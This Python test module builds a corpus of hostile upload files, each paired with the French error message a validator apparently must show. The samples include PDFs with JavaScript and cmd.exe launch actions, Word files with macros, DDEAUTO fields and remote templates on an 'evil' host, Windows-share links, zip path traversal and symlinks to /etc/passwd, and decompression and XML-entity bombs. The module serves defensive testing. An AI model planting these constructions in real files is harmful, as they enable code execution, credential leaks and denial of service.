"""Files made to fool, to break or to spy, each with the answer that its sender must read."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from tests.applications import files
from tests.hostile import pdfs

TYPE = "Ce type de fichier n’est pas accepté"
NAME = "Ce fichier n’est pas ce que dit son nom"
EMPTY = "Ce fichier est vide"
LONG = "Ce fichier est trop lourd"
DAMAGED = "Ce fichier est abîmé"
ENCRYPTED = "protégé par un mot de passe"
ACTIVE = "Ce PDF contient un programme ou un autre fichier"
MACRO = "Ce document contient une macro ou un autre fichier"
REMOTE = "Ce document va chercher des éléments ailleurs"
HEAVY = "anormalement gros une fois ouvert"

SCRIPT = b"<script>alert(1)</script>"
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://x/{kind}" Target="{target}"{mode}/></Relationships>'
)
ELSEWHERE = ' TargetMode="External"'
ENTITIES = (
    b'<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><document>&c;</document>'
)
ACTION = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %b >>]"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Hostile:
    """A file, the name it is sent under, and a part of the sentence that refuses it."""

    why: str
    name: str
    make: Callable[[], bytes]
    answer: str

    def data(self) -> bytes:
        """Return the file, made once: a bomb takes a second."""
        return _made(self.why)


def _relation(kind: str, target: str, mode: str = ELSEWHERE, encoding: str = "utf-8") -> bytes:
    text = RELATIONS.format(kind=kind, target=target, mode=mode)
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return (head + text).encode(encoding)


def _docx_with_relation(relation: bytes) -> bytes:
    return files.archive(
        {
            "[Content_Types].xml": files.DOCX_TYPES,
            "word/document.xml": b"<document/>",
            "word/_rels/settings.xml.rels": relation,
        }
    )


def _docx_saying(*runs: bytes) -> bytes:
    """Return a DOCX with a field, its instruction cut in pieces as Word does."""
    pieces = b"".join(b"<w:r><w:instrText>%b</w:instrText></w:r>" % run for run in runs)
    begin, end = (
        b'<w:r><w:fldChar w:fldCharType="%b"/></w:r>' % kind for kind in (b"begin", b"end")
    )
    body = b"<w:document %b><w:p>%b%b%b</w:p></w:document>" % (W, begin, pieces, end)
    return files.docx(word__document__xml=body)


def _renamed_macro() -> bytes:
    kind = '<Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    types = files.DOCX_TYPES.replace(b"</Types>", kind.encode())
    return files.archive(
        {"[Content_Types].xml": types, "word/document.xml": b"<d/>", "word/notes.dat": b"\1macro"}
    )


def _four_gigabytes() -> bytes:
    """Return a DOCX of a few kilobytes that says it holds four gigabytes."""
    data = bytearray(files.docx(word__media__image=b"\0" * 40_000))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 0xFFFF_FFF0)
    return bytes(data)


def _linked_out() -> bytes:
    buffer = io.BytesIO(files.docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _said_twice() -> bytes:
    buffer = io.BytesIO(files.docx())
    with zipfile.ZipFile(buffer, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", "<document>Another</document>")
    return buffer.getvalue()


def _locked_entry() -> bytes:
    data = bytearray(files.docx())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + flags] |= 1
    return bytes(data)


def _png_chunk(kind: bytes, content: bytes) -> bytes:
    sum_ = struct.pack(">I", zlib.crc32(kind + content))
    return struct.pack(">I", len(content)) + kind + content + sum_


def huge_png() -> bytes:
    """Return a PNG that says it is 30,000 pixels wide and high."""
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + files.image("PNG")[33:]


def _talkative_png() -> bytes:
    text = _png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 60_000_000, 1))
    data = files.image("PNG")
    return data[:33] + text + data[33:]


def _between_objects() -> bytes:
    data = files.pdf(20)
    middle = data.rindex(b"endobj") + len(b"endobj")
    return data[:middle] + b"\n%" + SCRIPT + b"\n" + data[middle:]


def _javascript(name: bytes = b"/JavaScript") -> bytes:
    return b"<< /S %b /JS (app.alert\\(1\\)) >>" % name


CORPUS = [
    # The name says one thing, the content another.
    Hostile("old_word", "cv.doc", lambda: OLE * 100, TYPE),
    Hostile("program", "cv.exe", lambda: b"MZ" + b"\0" * 100, TYPE),
    Hostile("page", "cv.pdf.html", lambda: SCRIPT, TYPE),
    Hostile("reversed_name", "cv\u202efdp.exe", lambda: files.pdf(), TYPE),
    Hostile("no_extension", "cv", lambda: files.pdf(), TYPE),
    Hostile("nothing", "cv.pdf", lambda: b"", EMPTY),
    Hostile("six_megabytes", "cv.pdf", lambda: files.pdf() + b" " * 6_000_000, LONG),
    Hostile("drawing_as_picture", "cv.png", lambda: b"<svg onload='alert(1)'/>", NAME),
    Hostile("picture_as_pdf", "cv.pdf", lambda: files.image("PNG"), NAME),
    Hostile("pdf_as_picture", "cv.jpg", lambda: files.pdf(), NAME),
    Hostile("odt_as_docx", "cv.docx", lambda: files.odt(), DAMAGED),
    Hostile("docx_as_odt", "cv.odt", lambda: files.docx(), DAMAGED),
    # Two files in one.
    Hostile("page_before_pdf", "cv.pdf", lambda: SCRIPT + files.pdf(), NAME),
    Hostile("gif_before_pdf", "cv.pdf", lambda: b"GIF89a" + files.pdf(), NAME),
    Hostile("pdf_not_at_once", "cv.pdf", lambda: b"\n" * 9 + files.pdf(), NAME),
    Hostile("page_in_pdf", "cv.pdf", _between_objects, DAMAGED),
    Hostile("page_after_pdf", "cv.pdf", lambda: files.pdf() + SCRIPT, DAMAGED),
    Hostile("jar_after_pdf", "cv.pdf", lambda: files.pdf() + files.docx(), DAMAGED),
    Hostile("jar_after_jpeg", "cv.jpg", lambda: files.image("JPEG") + files.docx(), DAMAGED),
    Hostile("jar_after_png", "cv.png", lambda: files.image("PNG") + files.docx(), DAMAGED),
    Hostile("page_after_docx", "cv.docx", lambda: files.docx() + SCRIPT, DAMAGED),
    # Programs in a PDF.
    Hostile("script_on_opening", "cv.pdf", lambda: files.pdf(script=True), ACTIVE),
    Hostile(
        "script_packed",
        "cv.pdf",
        lambda: pdfs.one_page(page=b"/AA << /O 4 0 R >>", packed={4: _javascript()}),
        ACTIVE,
    ),
    Hostile(
        "script_misspelt",
        "cv.pdf",
        lambda: pdfs.one_page(page=ACTION % b"<< /S /J#61vaScript /J#53 (alert\\(1\\)) >>"),
        ACTIVE,
    ),
    Hostile(
        "starts_a_program",
        "cv.pdf",
        lambda: pdfs.one_page(page=ACTION % b"<< /S /Launch /F (cmd.exe) >>"),
        ACTIVE,
    ),
    Hostile("holds_a_program", "cv.pdf", lambda: files.pdf(file=True), ACTIVE),
    Hostile("sends_a_form", "cv.pdf", files.pdf_that_sends_a_form, ACTIVE),
    Hostile(
        "asks_for_a_password_of_windows",
        "cv.pdf",
        lambda: pdfs.one_page(page=ACTION % b"<< /S /URI /URI (file://evil/share) >>"),
        ACTIVE,
    ),
    Hostile(
        "form_of_adobe",
        "cv.pdf",
        lambda: pdfs.one_page(catalogue=b"/AcroForm << /XFA (x) >>"),
        ACTIVE,
    ),
    # PDFs that break what reads them.
    Hostile("locked_pdf", "cv.pdf", lambda: files.pdf(password="secret"), ENCRYPTED),
    Hostile("five_thousand_pages", "cv.pdf", lambda: pdfs.many_pages(5_000), "trop de pages"),
    Hostile(
        "pdf_bomb",
        "cv.pdf",
        lambda: pdfs.one_page(page=b"/Contents 4 0 R", more={4: pdfs.flate(b"\0" * 150_000_000)}),
        HEAVY,
    ),
    Hostile(
        "pdf_bomb_in_a_bomb",
        "cv.pdf",
        lambda: pdfs.one_page(page=b"/Contents 4 0 R", more={4: pdfs.flate(b"\0" * 9_000_000, 2)}),
        HEAVY,
    ),
    Hostile(
        "page_in_itself",
        "cv.pdf",
        lambda: pdfs.written({1: pdfs.CATALOGUE % b"", 2: pdfs.PAGES.replace(b"3", b"2")}, {}),
        DAMAGED,
    ),
    Hostile(
        "ten_thousand_boxes",
        "cv.pdf",
        lambda: pdfs.one_page(page=b"/Z " + b"[" * 10_000 + b"]" * 10_000),
        DAMAGED,
    ),
    Hostile("half_a_pdf", "cv.pdf", lambda: files.pdf()[:200] + b"%%EOF", DAMAGED),
    # Office documents that run, fetch or hide something.
    Hostile("macro", "cv.docx", lambda: files.docx(word__vbaProject=b"x"), MACRO),
    Hostile("macro_renamed", "cv.docx", _renamed_macro, MACRO),
    Hostile("old_office_inside", "cv.docx", lambda: files.docx(word__media__a=OLE), MACRO),
    Hostile("archive_inside", "cv.docx", lambda: files.docx(word__media__a=files.docx()), MACRO),
    Hostile(
        "page_inside",
        "cv.docx",
        lambda: _docx_with_relation(_relation("aFChunk", "/word/page.html", "")),
        MACRO,
    ),
    Hostile(
        "template_elsewhere",
        "cv.docx",
        lambda: _docx_with_relation(_relation("attachedTemplate", "https://evil/t.dotm")),
        REMOTE,
    ),
    Hostile(
        "picture_elsewhere_in_utf16",
        "cv.docx",
        lambda: _docx_with_relation(_relation("image", "https://evil/p.png", encoding="utf-16")),
        REMOTE,
    ),
    Hostile(
        "link_to_a_share",
        "cv.docx",
        lambda: _docx_with_relation(_relation("hyperlink", r"\\evil\share")),
        REMOTE,
    ),
    Hostile(
        "starts_a_program_by_a_field",
        "cv.docx",
        lambda: _docx_saying(b" D", b"DEA", b"UTO c:\\\\cmd.exe "),
        REMOTE,
    ),
    Hostile(
        "picture_elsewhere_by_a_field",
        "cv.docx",
        lambda: _docx_saying(b' INCLUDEPICTURE "https://evil/p.png" '),
        REMOTE,
    ),
    Hostile(
        "entities",
        "cv.docx",
        lambda: files.docx(word__document__xml=ENTITIES),
        DAMAGED,
    ),
    Hostile("macro_of_odt", "cv.odt", lambda: files.odt(Basic__Standard=b"<a/>"), MACRO),
    Hostile(
        "event_of_odt",
        "cv.odt",
        lambda: files.odt(
            content__xml=files.ODT_CONTENT % b"<script:event-listener xlink:href='vnd:x'/>"
        ),
        MACRO,
    ),
    Hostile(
        "picture_elsewhere_of_odt",
        "cv.odt",
        lambda: files.odt(
            content__xml=files.ODT_CONTENT % b"<draw:image xlink:href='https://evil/p.png'/>"
        ),
        REMOTE,
    ),
    Hostile(
        "locked_odt",
        "cv.odt",
        lambda: files.odt(META_INF__manifest__xml=b"<manifest><encryption-data/></manifest>"),
        ENCRYPTED,
    ),
    Hostile(
        "locked_docx",
        "cv.docx",
        lambda: OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        ENCRYPTED,
    ),
    # Archives that break what opens them.
    Hostile("locked_entry", "cv.docx", _locked_entry, ENCRYPTED),
    Hostile("bomb", "cv.docx", lambda: files.docx(bomb=b"\0" * 20_000_000), HEAVY),
    Hostile("four_gigabytes", "cv.docx", _four_gigabytes, HEAVY),
    Hostile(
        "ten_thousand_entries",
        "cv.docx",
        lambda: files.docx(**{f"e{rank}": b"" for rank in range(10_000)}),
        HEAVY,
    ),
    Hostile("climbs_out", "cv.docx", lambda: files.archive({"../../etc/passwd": b"x"}), DAMAGED),
    Hostile("linked_out", "cv.docx", _linked_out, DAMAGED),
    Hostile("said_twice", "cv.docx", _said_twice, DAMAGED),
    Hostile("half_a_docx", "cv.docx", lambda: files.docx()[:-30], DAMAGED),
    # Pictures.
    Hostile("nine_hundred_million_pixels", "cv.png", huge_png, "trop grande"),
    Hostile("picture_bomb", "cv.png", _talkative_png, DAMAGED),
    Hostile("half_a_picture", "cv.jpg", lambda: files.image("JPEG")[:-200], DAMAGED),
]


@cache
def _made(why: str) -> bytes:
    return next(one for one in CORPUS if one.why == why).make()
